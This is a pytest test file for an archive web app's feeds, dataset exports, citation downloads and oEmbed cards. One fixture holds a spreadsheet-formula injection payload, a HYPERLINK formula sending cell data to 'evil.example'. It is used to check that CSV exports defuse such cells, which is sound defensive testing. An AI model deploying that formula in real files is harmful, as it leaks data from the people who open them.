"""Atom feeds (read by feedparser), dataset downloads and exports (JSON lines, CSV, Parquet
read back with pyarrow), citation exports of a whole search, and oEmbed; published documents
only, everywhere."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import feedparser
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from chancery.bootstrap import App
from chancery.cli import app as cli
from chancery.domain.publication import Actor
from chancery.services import datasets
from chancery.services.clock import today
from tests.e2e.test_api import _build


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[App, TestClient]]:
    """FRUS vol. XIX, the scans and the reference pair with the note as a draft."""
    app, client = _build(tmp_path_factory.mktemp("feeds"), drafts=("000.yaml",))
    yield app, client
    app.catalogue.dispose()


def _public_ids(app: App) -> set[str]:
    return {s.document.public_id for s in app.catalogue.iter_documents(Actor.PUBLIC, today())}


def test_feeds_of_newly_published_documents(archive: tuple[App, TestClient]) -> None:
    app, site = archive
    recent = feedparser.parse(site.get("/feeds/recent.atom").content)
    assert not recent.bozo and recent.feed.title.endswith("newly published")
    assert len(recent.entries) == 50
    assert all(e.id and e.title and e.updated and e.link for e in recent.entries)
    assert "7da35b31" not in " ".join(e.id for e in recent.entries)
    volume = feedparser.parse(site.get("/feeds/collections/frus/frus1958-60v19.atom").content)
    frus = {s.document.public_id for s in app.catalogue.iter_documents(Actor.PUBLIC, today())
            if s.document.source_id.startswith("frus")}
    assert volume.entries and {e.id.rsplit("/", 1)[-1] for e in volume.entries} <= frus
    letters = feedparser.parse(site.get("/feeds/search.atom", params={"q": "Taiwan",
                                                                      "f": "type:letter"}).content)
    assert letters.entries and all(t.term == "letter" for e in letters.entries for t in e.tags)
    assert site.get("/feeds/collections/nope.atom").status_code == 404
    assert site.get("/feeds/search.atom", params={"q": '"unclosed'}).status_code == 400
    page = site.get("/search", params={"q": "Taiwan"}).text
    assert 'type="application/atom+xml" href="/feeds/search.atom?q=Taiwan"' in page


def test_downloads_stream_every_public_record(archive: tuple[App, TestClient]) -> None:
    app, site = archive
    public = _public_ids(app)
    lines = site.get("/downloads/documents.jsonl").text.splitlines()
    records = [json.loads(line) for line in lines]
    assert {r["public_id"] for r in records} == public and len(records) == len(public)
    assert "draft001" not in public and all("revisions" not in r for r in records)
    rows = list(csv.DictReader(io.StringIO(site.get("/downloads/documents.csv").text)))
    assert {r["public_id"] for r in rows} == public
    assert list(rows[0]) == list(datasets.COLUMNS)
    assert site.get("/downloads/documents.xml").status_code == 404


def test_cli_exports_jsonl_csv_and_parquet(archive: tuple[App, TestClient], tmp_path: Path) -> None:
    """The dump reads back to exactly what the catalogue holds."""
    app, _ = archive
    runner = CliRunner()
    data = str(app.settings.data)
    for fmt in datasets.FORMATS:
        out = tmp_path / f"documents.{fmt}"
        result = runner.invoke(cli, ["--data", data, "export", "--format", fmt, "--out", str(out),
                                     "--public"])
        assert result.exit_code == 0, result.output
    expected = {s.document.public_id: datasets.record(s, Actor.PUBLIC)
                for s in app.catalogue.iter_documents(Actor.PUBLIC, today())}
    dumped = [json.loads(line) for line in (tmp_path / "documents.jsonl").read_text().splitlines()]
    assert {r["public_id"]: r for r in dumped} == expected
    table = pq.read_table(tmp_path / "documents.parquet")
    assert table.num_rows == len(expected) and table.column_names == list(datasets.COLUMNS)
    note = next(r for r in table.to_pylist() if r["public_id"] == "0874552c")
    assert note["authors"] == ["Central Committee of the Communist Party of the Soviet Union"]
    assert note["text"].startswith("TO THE CENTRAL COMMITTEE")
    with (tmp_path / "documents.csv").open(newline="") as f:
        assert len(list(csv.DictReader(f))) == len(expected)
    bad = runner.invoke(cli, ["--data", data, "export", "--format", "xml", "--out", str(tmp_path / "x")])
    assert bad.exit_code == 2


def test_a_whole_search_as_bibtex_and_ris(archive: tuple[App, TestClient]) -> None:
    _, site = archive
    total = site.get("/api/v1/search", params={"q": "Taiwan", "limit": 1}).json()["total"]
    bib = site.get("/search/cite.bib", params={"q": "Taiwan"})
    assert bib.status_code == 200 and bib.text.count("\n@") + bib.text.startswith("@") == total > 100
    ris = site.get("/search/cite.ris", params={"q": "Taiwan", "f": "type:letter"}).text
    letters = site.get("/api/v1/search", params={"q": "Taiwan", "f": "type:letter", "limit": 1}).json()
    assert ris.count("TY  - ") == letters["total"] > 0
    assert site.get("/search/cite.bib", params={"q": "(unclosed"}).status_code == 400


def test_oembed_cards(archive: tuple[App, TestClient]) -> None:
    app, site = archive
    page = site.get("/documents/0874552c", follow_redirects=True)
    assert 'type="application/json+oembed"' in page.text
    card = site.get("/oembed", params={"url": str(page.url)}).json()
    assert card["version"] == "1.0" and card["type"] == "rich" and card["width"] <= 560
    # the card points at the archive's one public address, whatever host was asked
    assert f'src="{app.settings.base_url}/embed/documents/0874552c"' in card["html"]
    assert site.get("/embed/documents/0874552c").status_code == 200
    small = site.get("/oembed", params={"url": str(page.url), "maxwidth": 300}).json()
    assert small["width"] == 300
    assert site.get("/oembed", params={"url": "http://x/documents/7da35b31"}).status_code == 404
    assert site.get("/embed/documents/7da35b31").status_code == 404  # the draft
    assert site.get("/oembed", params={"url": str(page.url), "format": "xml"}).status_code == 501


def test_a_selection_of_results_in_one_file(archive: tuple[App, TestClient]) -> None:
    """The search page's checkboxes send the chosen ids; hidden documents are left out."""
    app, site = archive
    page = site.get("/search", params={"q": "Taiwan"}).text
    assert 'form="selection"' in page and 'action="/documents/cite.bib"' in page
    found = site.get("/api/v1/search", params={"q": "Taiwan", "limit": 3}).json()
    ids = [h["public_id"] for h in found["hits"]]
    bib = site.get("/documents/cite.bib", params={"id": [*ids, "7da35b31"]})
    assert bib.status_code == 200 and bib.text.count("\n@") + 1 == 3
    assert all(f"{{{i}," in bib.text for i in ids) and "7da35b31" not in bib.text
    items = site.get("/documents/cite.json", params={"id": ids[:2]}).json()
    assert [i["id"] for i in items] == ids[:2]
    assert site.get("/documents/cite.bib").status_code == 404
    runner = CliRunner()
    out = runner.invoke(cli, ["--data", str(app.settings.data), "cite", *ids[:2], "--style", "ris",
                              "--public"])
    assert out.exit_code == 0 and out.output.count("TY  - ") == 2
    missing = runner.invoke(cli, ["--data", str(app.settings.data), "cite", ids[0], "7da35b31",
                                  "--public"])
    assert missing.exit_code == 1 and "7da35b31" in missing.output


def test_control_characters_in_a_record_do_not_break_xml(tmp_path: Path) -> None:
    """A title with a form feed (OCR, spreadsheets) still gives well-formed OAI-PMH and Atom."""
    from datetime import UTC, datetime

    from lxml import etree

    from chancery.bootstrap import build_app
    from chancery.config import load_settings
    from chancery.domain.dates import parse_iso_date
    from chancery.domain.documents import Document
    from chancery.domain.revisions import Revision
    from chancery.services import search
    from chancery.storage.interface import DocumentWrite
    from chancery.web.server import create_app

    app = build_app(load_settings(data=str(tmp_path / "data"), database_url=""))
    try:
        doc = Document("ctl00001", "Cable\x0cfrom Saigon\x1b", summary="Page\x0ctwo",
                       date=parse_iso_date("1963-11-01"))
        with app.catalogue.session() as s:
            assert s.write_documents([DocumentWrite(doc, [], "h", Revision(
                datetime.now(UTC), "test", "control characters"))]) == {}
        search.rebuild_index(app.catalogue, app.index)
        site = TestClient(create_app(app))
        record = site.get("/oai", params={"verb": "GetRecord", "metadataPrefix": "chancery",
                                          "identifier": "oai:chancery.archive:ctl00001"})
        assert record.status_code == 200
        assert etree.fromstring(record.content).findtext(".//{urn:chancery:record:1}title") \
            == "Cablefrom Saigon"
        feed = feedparser.parse(site.get("/feeds/recent.atom").content)
        assert not feed.bozo and feed.entries[0].title == "Cablefrom Saigon"
    finally:
        app.catalogue.dispose()


def test_a_document_hidden_after_indexing_stays_out_of_feeds_and_exports(tmp_path: Path) -> None:
    """Found by review: while the index lags behind a write that hides a document, feeds,
    COinS and search exports re-read each hit with the access rule."""
    import yaml

    from chancery.services.imports import import_paths

    app, site = _build(tmp_path, frus=False)
    try:
        bundle = tmp_path / "reference"
        meta = yaml.safe_load((bundle / "001.yaml").read_text())
        meta["publication"] = {"state": "draft"}
        (bundle / "001.yaml").write_text(yaml.safe_dump(meta, allow_unicode=True))
        assert not import_paths([bundle], app.import_context()).failed  # no index sync
        hits = site.get("/api/v1/search", params={"q": "Khrushchev"}).json()["hits"]
        assert "0874552c" in {h["public_id"] for h in hits}  # the index still has it
        feed = site.get("/feeds/recent.atom").text
        assert "0874552c" not in feed and "7da35b31" in feed
        assert "0874552c" not in site.get("/search/cite.ris", params={"q": "Khrushchev"}).text
        page = site.get("/search", params={"q": "Khrushchev OR Beijing"}).text
        coins = re.findall(r'<span class="Z3988" title="([^"]+)"', page)
        assert coins and not any("0874552c" in c for c in coins)
    finally:
        app.catalogue.dispose()


_FORMULAS = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
             "summary": "+SUM(1,2)", "text": "-2+3 is what the clerk wrote", "places": "@Berlin"}


def _formula_archive(root: Path) -> tuple[App, TestClient]:
    """An archive of one CSV-imported document whose cells look like spreadsheet formulas, and
    one whose title was typed with a spreadsheet's apostrophe text marker."""
    from chancery.bootstrap import build_app
    from chancery.config import load_settings
    from chancery.services import search
    from chancery.services.imports import import_paths
    from chancery.web.server import create_app

    source = root / "box.csv"
    with source.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, ["id", "title", "date", "summary", "text", "places", "state"])
        writer.writeheader()
        writer.writerow({"id": "formula1", "date": "1961-08", "state": "published", **_FORMULAS})
        writer.writerow({"id": "formula2", "title": "'=typed as text", "text": "Text.",
                         "state": "published"})
    app = build_app(load_settings(data=str(root / "data"), database_url=""))
    assert not import_paths([source], app.import_context()).failed
    search.rebuild_index(app.catalogue, app.index)
    return app, TestClient(create_app(app))


def _csv_rows(text: str) -> dict[str, dict[str, str]]:
    return {r["public_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
    """In the CSV download and `export --format csv` a cell beginning with = + - @ gets an
    apostrophe first (OWASP); JSON lines and the stored record keep the text as it is; the
    export imported again does not gather apostrophes, and exports the same again."""
    app, site = _formula_archive(tmp_path)
    try:
        download = site.get("/downloads/documents.csv").text
        rows = _csv_rows(download)
        assert {k: rows["formula1"][k] for k in _FORMULAS} == {k: "'" + v for k, v in _FORMULAS.items()}
        assert rows["formula2"]["title"] == "'=typed as text"
        records = {json.loads(line)["public_id"]: json.loads(line)
                   for line in site.get("/downloads/documents.jsonl").text.splitlines()}
        assert records["formula1"]["title"] == _FORMULAS["title"]
        assert records["formula2"]["title"] == "=typed as text"  # the marker is not text
        out = tmp_path / "export.csv"
        result = CliRunner().invoke(cli, ["--data", str(app.settings.data), "export", "--format",
                                          "csv", "--out", str(out), "--public"])
        assert result.exit_code == 0, result.output
        assert out.read_bytes().decode() == download
        from chancery.services.imports import import_paths
        assert not import_paths([out], app.import_context()).failed
        again = site.get("/api/v1/documents/formula1").json()
        assert (again["title"], again["summary"]) == (_FORMULAS["title"], _FORMULAS["summary"])
        assert site.get("/api/v1/documents/formula2").json()["title"] == "=typed as text"
        reexported = _csv_rows(site.get("/downloads/documents.csv").text)
        for public_id, row in rows.items():
            assert {k: reexported[public_id][k] for k in ("title", "summary", "text")} == \
                {k: row[k] for k in ("title", "summary", "text")}
    finally:
        app.catalogue.dispose()


def test_every_channel_finds_by_sound_what_search_finds(archive: tuple[App, TestClient]) -> None:
    """'Khrouchtchev', a French spelling no record lists, is found only through the phonetic
    key: the search feed, the citations of a whole result and a search download find the
    same documents as /search and the API (the feed and the citations used to find none)."""
    _, site = archive
    q = "Khrouchtchev"
    api = site.get("/api/v1/search", params={"q": q, "limit": 100}).json()
    ids = {h["public_id"] for h in api["hits"]}
    assert 20 < api["total"] == len(ids)
    assert f"<strong>{api['total']}</strong> documents" in site.get("/search", params={"q": q}).text
    feed = feedparser.parse(site.get("/feeds/search.atom", params={"q": q}).content)
    feed_ids = {e.id.rsplit("/", 1)[-1] for e in feed.entries}
    assert len(feed_ids) == min(50, len(ids)) and feed_ids <= ids
    ris = site.get("/search/cite.ris", params={"q": q}).text
    assert ris.count("TY  - ") == len(ids)
    lines = site.get("/downloads/documents.jsonl", params={"q": q}).text.splitlines()
    assert {json.loads(line)["public_id"] for line in lines} == ids


def test_a_search_downloads_as_jsonl_and_csv_from_one_address(
        archive: tuple[App, TestClient]) -> None:
    """/downloads/documents.jsonl?q=... holds exactly what the search finds, oldest first, not
    the whole archive; f= narrows as on /search; a malformed query or facet is a 400."""
    app, site = archive
    q = "Khrushchev date:1960"
    api = site.get("/api/v1/search", params={"q": q, "limit": 100}).json()
    ids = {h["public_id"] for h in api["hits"]}
    assert 0 < api["total"] == len(ids) < len(_public_ids(app))
    got = site.get("/downloads/documents.jsonl", params={"q": q})
    assert got.status_code == 200 and got.headers["x-total-count"] == str(len(ids))
    records = [json.loads(line) for line in got.text.splitlines()]
    assert [r["public_id"] for r in records if r["public_id"] in ids] == [r["public_id"] for r in records]
    assert {r["public_id"] for r in records} == ids and len(records) == len(ids)
    starts = [r["date"]["start"] for r in records]
    assert starts == sorted(starts) and all(s.startswith("1960") for s in starts)
    rows = list(csv.DictReader(io.StringIO(site.get(
        "/downloads/documents.csv", params={"q": "Khrushchev", "f": "year:1960"}).text)))
    assert {r["public_id"] for r in rows} == ids
    notes = site.get("/downloads/documents.jsonl", params={"q": "experts", "f": "type:note"})
    assert "7da35b31" not in notes.text  # the draft stays out, as everywhere
    for bad in ({"q": '"unclosed'}, {"q": "x", "f": "type"}, {"q": "x", "f": "colour:red"}):
        answer = site.get("/downloads/documents.jsonl", params=bad)
        assert answer.status_code == 400 and answer.text, bad


def test_the_api_returns_full_records_for_a_search(archive: tuple[App, TestClient]) -> None:
    """records=full puts each hit's full record (as /documents/{id}) in the search answer."""
    _, site = archive
    found = site.get("/api/v1/search", params={"q": "Khrushchev date:1960", "records": "full",
                                               "limit": 5}).json()
    assert found["hits"]
    for hit in found["hits"]:
        assert hit["record"] == site.get(f"/api/v1/documents/{hit['public_id']}").json()
    plain = site.get("/api/v1/search", params={"q": "Khrushchev", "limit": 5}).json()
    assert all(h["record"] is None for h in plain["hits"])
    assert site.get("/api/v1/search", params={"q": "x", "records": "all"}).status_code == 422


def test_cli_exports_what_a_search_finds(archive: tuple[App, TestClient], tmp_path: Path) -> None:
    """`chancery export --query ... --facet ...` writes the documents the search finds."""
    app, site = archive
    api = site.get("/api/v1/search", params={"q": "Khrushchev date:1960", "limit": 100}).json()
    ids = {h["public_id"] for h in api["hits"]}
    runner = CliRunner()
    data = str(app.settings.data)
    out = tmp_path / "berlin.jsonl"
    done = runner.invoke(cli, ["--data", data, "export", "--format", "jsonl", "--out", str(out),
                               "--query", "Khrushchev", "--facet", "year:1960", "--public"])
    assert done.exit_code == 0, done.output
    assert {json.loads(line)["public_id"] for line in out.read_text().splitlines()} == ids
    assert f"Wrote {len(ids)} documents" in done.output
    bundle = runner.invoke(cli, ["--data", data, "export", "--out", str(tmp_path / "dump"),
                                 "--query", "Khrushchev date:1960", "--public"])
    assert bundle.exit_code == 0, bundle.output
    assert len(list((tmp_path / "dump" / "documents").glob("*.yaml"))) == len(ids)
    bad = runner.invoke(cli, ["--data", data, "export", "--format", "csv", "--out",
                              str(tmp_path / "x.csv"), "--query", '"unclosed'])
    assert bad.exit_code == 2 and "Cannot read the query" in bad.output
